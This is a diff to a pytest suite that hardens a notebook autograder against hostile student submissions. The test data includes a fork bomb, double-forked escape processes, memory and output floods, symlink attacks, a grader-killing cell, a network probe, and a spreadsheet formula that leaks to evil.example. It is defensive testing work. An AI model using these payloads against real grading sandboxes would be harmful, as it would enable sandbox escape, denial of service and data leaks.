@@ -24,6 +24,7 @@ import json
 import os
 import shutil
 import signal
+import socket
 import subprocess
 import sys
 import tempfile
@@ -58,6 +59,8 @@ FAST = [
     "90",
     "--memory-mb",
     "1500",
+    "--max-processes",
+    "96",
 ]
 
 
@@ -193,10 +196,81 @@ def killer(grader_too: bool) -> str:
     )
     return (
         "import os, signal\n" + PAIRWISE + "    victims = [os.getppid()]\n"
+        "    if victims[0] == 0:  # the parent is outside this process namespace\n"
+        "        raise ProcessLookupError('no parent to kill')\n"
         f"{grader}"
         "    for pid in victims:\n"
         "        os.kill(pid, signal.SIGKILL)\n"
         "    return (a[:, None, :] - b[None, :, :]).pow(2).sum(-1)\n"
+    )
+
+
+# Issue 22: what got through before. Each is a cell of its own in a notebook
+# that otherwise holds the full solution, so it must still get full marks.
+FORK_BOMB = (  # bounded: the cap must refuse it long before 300
+    "import subprocess\n"
+    "procs = []\n"
+    "try:\n"
+    "    for _ in range(300):\n"
+    "        procs.append(subprocess.Popen(['sleep', '60.123']))\n"
+    "    print('FORKED', len(procs))\n"
+    "except OSError as exc:\n"
+    "    print('REFUSED after', len(procs), type(exc).__name__)\n"
+    "for proc in procs:\n"
+    "    proc.kill()\n"
+    "    proc.wait()\n"
+)
+ESCAPE = (  # a double-forked, setsid process that should outlive its job
+    "import os\n"
+    "if os.fork() == 0:\n"
+    "    os.setsid()\n"
+    "    if os.fork() == 0:\n"
+    "        os.execvp('sleep', ['sleep', '300.5'])\n"
+    "    os._exit(0)\n"
+    "os.wait()\n"
+    "print('ESCAPED')\n"
+)
+ESCAPED_HOG = (  # a double-forked process holding memory over the cap
+    "import os, time\n"
+    "if os.fork() == 0:\n"
+    "    if os.fork() == 0:\n"
+    "        hog = [b'x' * (1000 * 2**20) for _ in range(2)]\n"
+    "        time.sleep(60)\n"
+    "    os._exit(0)\n"
+    "os.wait()\n"
+    "time.sleep(30)\n"
+)
+LEFT_BEHIND = ("60.123", "300.5")
+DISPLAY_FLOOD = (
+    "from IPython.display import display\n"
+    "handles = [display('x', display_id='same') for _ in range(20)]\n"
+    "handles[0].update('y' * (8 * 2**20))\n"
+)
+NESTED = '{"a":' * 100_000 + "1" + "}" * 100_000
+FORMULA = '=HYPERLINK("http://evil.example/?leak","click")'
+DYNAMIC_REFERENCE = (
+    "import importlib\n"
+    "def softplus(x):\n"
+    "    module = importlib.import_module('torch.nn.' + 'functional')\n"
+    "    return getattr(module, 'soft' + 'plus')(x)\n"
+)
+HIDDEN_ONLY = (  # right on every public case, wrong on the hidden one (x = 500)
+    "import torch\n"
+    "def softplus(x):\n"
+    "    return torch.logaddexp(x, torch.zeros_like(x)).clamp(max=100)\n"
+)
+
+
+def net_spy(port: int) -> str:
+    """A cell that counts the processes it sees and connects to a grader-side port."""
+    return (
+        "import os, socket\n"
+        "print('PIDS', sum(p.isdigit() for p in os.listdir('/proc')))\n"
+        "try:\n"
+        f"    socket.create_connection(('127.0.0.1', {port}), timeout=5).close()\n"
+        "    print('REACHED')\n"
+        "except OSError as exc:\n"
+        "    print('UNREACHABLE', exc)\n"
     )
 
 
@@ -207,12 +281,15 @@ def battery(
     out: Path,
     checks: Path | None = None,
     isolation: Isolation | None = None,
+    port: int | None = None,
 ) -> dict[str, str | nbformat.NotebookNode]:
     """Every submission of the battery: a notebook, or raw text for broken files.
 
     With OS isolation (``isolation`` not process-only) the attacks that only
-    isolation can stop are added, each beside the honest submissions.
+    isolation can stop are added, each beside the honest submissions;
+    ``port`` (a socket the test listens on) adds the network spy.
     """
+    spy = {"net_spy": variant(solution, extra=[net_spy(port)])} if port else {}
     text = dumps(solution)
     writer = (
         "import os, pathlib\n"
@@ -288,6 +365,19 @@ def battery(
         "truncated": text[: len(text) // 2],
         "wrong_version": json.dumps({**json.loads(text), "nbformat": 99}),
         "empty": "",
+        "escapee": variant(solution, extra=[FORK_BOMB, ESCAPE, ESCAPED_HOG]),
+        "display_flood": variant(solution, extra=[DISPLAY_FLOOD]),
+        "nested": NESTED,
+        "formula": variant(
+            solution,
+            {
+                "demo.softplus": "def softplus(x):\n"
+                f"    raise NotImplementedError({FORMULA!r})\n"
+            },
+        ),
+        "dynamic_reference": variant(solution, {"demo.softplus": DYNAMIC_REFERENCE}),
+        "hidden_only": variant(solution, {"demo.softplus": HIDDEN_ONLY}),
+        **spy,
         **(security_battery(solution, student, subs, out, checks, isolation)),
     }
 
@@ -418,15 +508,25 @@ def graded(
     subs, out = base / "submissions", base / "results"
     checks = private_checks(base)
     solution, student = demo_notebooks()
-    items = battery(solution, student, subs, out, checks, isolation)
+    listener = socket.create_server(("127.0.0.1", 0))
+    port = listener.getsockname()[1]
+    items = battery(solution, student, subs, out, checks, isolation, port)
     write_submissions(subs, items)
+    victim = links_submission(subs, base, solution)
     before = package_state(), hash_files(package_copy / "coursework")
     args = [*FAST]
     args[args.index("--checks") + 1] = str(checks)
-    done = grade(package_copy, subs, out, *args)
+    try:
+        done = grade(package_copy, subs, out, *args)
+    finally:
+        listener.close()
     results = {(r["student"], r["exercise"]): r for r in read_csv(out / "results.csv")}
     grades = {r["student"]: r for r in read_csv(out / "grades.csv")}
     return {
+        "alive": left_behind(),
+        "victim": victim,
+        "victim_after": (victim / "target.json").read_text(),
+        "victim_owner": (victim / "home").stat().st_uid,
         "status": done.returncode,
         "stderr": done.stderr,
         "out": out,
@@ -434,11 +534,50 @@ def graded(
         "base": base,
         "results": results,
         "grades": grades,
-        "names": list(items),
+        "names": [*items, "linked"],
         "isolation": isolation,
         "package_before": before,
         "package_after": (package_state(), hash_files(package_copy / "coursework")),
     }
+
+
+def links_submission(subs: Path, base: Path, solution: nbformat.NotebookNode) -> Path:
+    """A student folder whose links point out of it, and a notebook that is a link.
+
+    ``linked/`` holds the solution and, where the grader writes and chowns,
+    links to files outside (the kernel spec, the home folder); ``symlinked.ipynb``
+    is a link to a notebook outside the submissions. Returns the victims' folder.
+    """
+    victim = base / "victim"
+    (victim / "home").mkdir(parents=True)
+    (victim / "target.json").write_text("untouched")
+    (victim / "outside.ipynb").write_text(dumps(solution))
+    folder = subs / "linked"
+    folder.mkdir()
+    (folder / "linked.ipynb").write_text(dumps(solution))
+    spec = folder / ".kernelspec" / "kernels" / "coursework-grading"
+    spec.mkdir(parents=True)
+    (spec / "kernel.json").symlink_to(victim / "target.json")
+    (folder / ".home").symlink_to(victim / "home")
+    (folder / ".runtime").symlink_to(victim)
+    (subs / "symlinked.ipynb").symlink_to(victim / "outside.ipynb")
+    return victim
+
+
+def left_behind() -> list[str]:
+    """Command lines of processes that the battery's escapees started, still alive."""
+    alive = []
+    for entry in Path("/proc").iterdir():
+        if not entry.name.isdigit():
+            continue
+        try:
+            argv = (entry / "cmdline").read_bytes().split(b"\0")
+        except OSError:
+            continue
+        words = [a.decode(errors="replace") for a in argv]
+        if words[:1] == ["sleep"] and any(w in LEFT_BEHIND for w in words):
+            alive.append(" ".join(words))
+    return alive
 
 
 def needs_isolation(graded: dict[str, object]) -> Isolation:
@@ -493,6 +632,12 @@ def test_solution_gets_full_marks_and_student_version_zero(
         ("renamed", {"demo.softplus": "missing"}),
         ("alias", {"demo.softplus": "uses-reference"}),
         ("wrapper", {"demo.softplus": "uses-reference"}),
+        ("escapee", {}),
+        ("display_flood", {}),
+        ("formula", {"demo.softplus": "missing"}),
+        ("dynamic_reference", {"demo.softplus": "uses-reference"}),
+        ("hidden_only", {"demo.softplus": "failed"}),
+        ("linked", {}),
     ],
 )
 def test_hostile_submission(
@@ -511,7 +656,7 @@ def test_hostile_submission(
 
 
 @pytest.mark.parametrize(
-    "student", ["invalid_json", "truncated", "wrong_version", "empty"]
+    "student", ["invalid_json", "truncated", "wrong_version", "empty", "nested"]
 )
 def test_unreadable_notebook_is_invalid(
     graded: dict[str, object], student: str
@@ -519,6 +664,88 @@ def test_unreadable_notebook_is_invalid(
     assert set(statuses(graded, student).values()) == {"invalid-notebook"}
     feedback = (graded["out"] / "feedback" / f"{student}.md").read_text()  # type: ignore[operator]
     assert "could not be graded" in feedback
+
+
+def test_no_process_of_the_run_is_left_alive(graded: dict[str, object]) -> None:
+    """Issue 22 (2): a double-forked, setsid process dies with its job."""
+    assert "ESCAPED" in executed_output(graded, "escapee")
+    assert graded["alive"] == []
+
+
+def test_process_count_is_capped(graded: dict[str, object]) -> None:
+    """Issue 22 (3): a fork bomb (bounded at 300 here) is refused at the cap."""
+    printed = executed_output(graded, "escapee")
+    assert "REFUSED after" in printed and "FORKED" not in printed
+    started = int(printed.split("REFUSED after")[1].split()[0])
+    assert started < 96
+
+
+def test_memory_of_every_process_of_a_job_is_watched(
+    graded: dict[str, object],
+) -> None:
+    """Issue 22 (4): a double-forked process over the cap is a memory event."""
+    iso: Isolation = graded["isolation"]  # type: ignore[assignment]
+    if not iso.namespaces:
+        pytest.skip("no process namespace here: orphans leave the kernel's tree")
+    feedback = (graded["out"] / "feedback" / "escapee.md").read_text()  # type: ignore[operator]
+    assert "memory: `used more than 1500 MB of memory`" in feedback
+    assert float(graded["grades"]["escapee"]["total"]) == 4  # type: ignore[index]
+
+
+def test_student_code_has_no_network_and_sees_only_its_job(
+    graded: dict[str, object],
+) -> None:
+    """Issue 22 (1): no socket of the grader's machine, no classmate's process."""
+    iso: Isolation = graded["isolation"]  # type: ignore[assignment]
+    if not iso.namespaces:
+        pytest.skip(f"namespaces are refused here: {'; '.join(iso.notes)}")
+    printed = executed_output(graded, "net_spy")
+    assert "UNREACHABLE" in printed and "REACHED\n" not in printed
+    assert int(printed.split("PIDS")[1].split()[0]) <= 3
+    assert "network" in iso.describe() and iso.describe() in graded["stderr"]  # type: ignore[operator]
+
+
+def test_display_updates_count_in_the_output_cap(graded: dict[str, object]) -> None:
+    """Issue 22 (5): one 8 MiB update of twenty displays sharing an id."""
+    executed = graded["out"] / "executed" / "display_flood.ipynb"  # type: ignore[operator]
+    assert executed.stat().st_size < 2 * 2**20
+    assert "output truncated" in executed.read_text()
+
+
+def test_csv_cells_cannot_start_a_formula(graded: dict[str, object]) -> None:
+    """Issue 22 (6): a student's message reaches results.csv inert."""
+    row = graded["results"][("formula", "demo.softplus")]  # type: ignore[index]
+    assert row["message"] == "'" + FORMULA
+    for path in ("results.csv", "grades.csv", "summary.csv"):
+        for r in read_csv(graded["out"] / path):  # type: ignore[operator]
+            for value in r.values():
+                assert not value.lstrip(" ").startswith(("=", "+", "@")), value
+
+
+def test_links_in_a_submission_are_never_followed(graded: dict[str, object]) -> None:
+    """Issue 22 (8): no write or chown through a student's link; a linked
+    notebook is not graded."""
+    assert graded["victim_after"] == "untouched"
+    assert graded["victim_owner"] == os.getuid()
+    assert "symlinked" not in graded["grades"]  # type: ignore[operator]
+    assert float(graded["grades"]["linked"]["total"]) == 4  # type: ignore[index]
+
+
+def test_run_time_reference_use_is_found(graded: dict[str, object]) -> None:
+    """Issue 22 (11): importlib + getattr reach the reference; no points."""
+    row = graded["results"][("dynamic_reference", "demo.softplus")]  # type: ignore[index]
+    assert float(row["points"]) == 0 and "run time" in row["message"]
+
+
+def test_hidden_cases_show_verdict_and_hint_only(graded: dict[str, object]) -> None:
+    """Issue 22 (12): a hidden case's failure says which, never its values."""
+    feedback = (graded["out"] / "feedback" / "hidden_only.md").read_text()  # type: ignore[operator]
+    assert "hidden case 1: failed" in feedback
+    assert "Hint:" in feedback
+    row = graded["results"][("hidden_only", "demo.softplus")]  # type: ignore[index]
+    for leak in ("500", "100", "expected"):
+        assert leak not in feedback.split("hidden case 1")[1].split("\n")[0]
+        assert leak not in row["message"]
 
 
 def test_memory_hog_is_reported_as_memory(graded: dict[str, object]) -> None:
@@ -615,7 +842,7 @@ def test_student_code_cannot_kill_the_grader(graded: dict[str, object]) -> None:
     row = graded["results"][("a_attacker", "demo.pairwise_sq_dists")]  # type: ignore[index]
     assert row["status"] == "error" and float(row["points"]) == 0
     if iso.signals_contained:
-        assert "PermissionError" in row["message"]
+        assert any(e in row["message"] for e in ("PermissionError", "ProcessLookup"))
 
 
 def test_tampering_without_isolation_stops_the_run(
